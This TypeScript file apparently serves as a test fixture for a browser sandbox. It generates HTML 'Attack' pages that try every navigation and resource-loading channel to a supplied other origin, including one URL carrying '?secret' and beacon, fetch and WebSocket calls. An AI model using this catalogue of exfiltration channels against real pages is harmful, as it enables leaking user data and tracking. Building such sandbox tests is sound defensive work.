/** Ways to tell another server something, each asking for a path of its name. */

export interface Attack {
  readonly name: string
  readonly html: string
}

const onClick = (name: string, script: string): Attack => ({
  name,
  html: `<button>Go</button><script>
    document.querySelector('button').onclick = () => { ${script} }
  </script>`,
})
const anchor = (attributes: string, url: string) =>
  `const a = document.createElement('a'); a.href = '${url}';
   for (const [k, v] of Object.entries(${attributes})) a.setAttribute(k, v)
   document.body.append(a); a.click()`

/** Leaving: whatever a click lets a page do to itself, its frame, its window or a new one. */
export function navigations(origin: string): readonly Attack[] {
  const to = (name: string) => `${origin}/${name}`
  const refresh = `<meta http-equiv=refresh content="0;url=${to('refresh')}">`
  return [
    onClick('location', `location.href = '${to('location')}?secret'`),
    onClick('replace', `location.replace('${to('replace')}')`),
    onClick('top', `top.location.href = '${to('top')}'`),
    onClick('parent', `parent.location.href = '${to('parent')}'`),
    onClick('open', `window.open('${to('open')}')`),
    onClick('link', anchor('{}', to('link'))),
    onClick('download', anchor("{ download: 'x' }", to('download'))),
    onClick('blank', anchor("{ target: '_blank' }", to('blank'))),
    onClick('link-top', anchor("{ target: '_top' }", to('link-top'))),
    onClick('refresh', `document.head.insertAdjacentHTML('beforeend', '${refresh}')`),
    onClick(
      'form',
      `const f = document.createElement('form'); f.action = '${to('form')}'; f.method = 'post'
       document.body.append(f); f.submit()`,
    ),
    onClick(
      'nested',
      `const f = document.createElement('iframe')
       f.srcdoc = "<script>location.href = '${to('nested')}'</" + 'script>'
       document.body.append(f)`,
    ),
  ]
}

/** Loading: everything a page can ask for without leaving, on one page that says when it is done. */
export function loads(origin: string): {
  readonly html: string
  readonly names: readonly string[]
} {
  const names: string[] = []
  const to = (name: string) => {
    names.push(name)
    return `${origin}/${name}`
  }
  const html = `
    <link rel="preconnect" href="${origin}"><link rel="stylesheet" href="${to('stylesheet')}"><link rel="prefetch" href="${to('prefetch')}">
    <style>
      @import url(${to('import')});
      @font-face { font-family: f; src: url(${to('font')}) }
      p { font-family: f; background: url(${to('background')}) }
    </style>
    <p>Text</p><img src="${to('image')}"><img srcset="${to('srcset')} 1x">
    <video src="${to('video')}" poster="${to('poster')}"></video><audio src="${to('audio')}"></audio>
    <object data="${to('object')}"></object><embed src="${to('embed')}">
    <iframe src="${to('frame')}"></iframe>
    <svg><image href="${to('svg-image')}" /></svg><script src="${to('script')}"></script>
    <script>
      const attempt = async (go) => { try { await go() } catch {} }
      Promise.all([
        () => fetch('${to('fetch')}', { mode: 'no-cors' }),
        () => import('${to('dynamic-import')}'),
        () => navigator.sendBeacon('${to('beacon')}', 'x'),
        () => new EventSource('${to('event-source')}'),
        () => { const x = new XMLHttpRequest(); x.open('GET', '${to('xhr')}'); x.send() },
        () => new WebSocket('${to('socket').replace('http', 'ws')}'),
        () => { new Image().src = '${to('new-image')}' },
      ].map(attempt)).then(() => document.body.append('Everything was tried'))
    </script>`
  return { html, names }
}
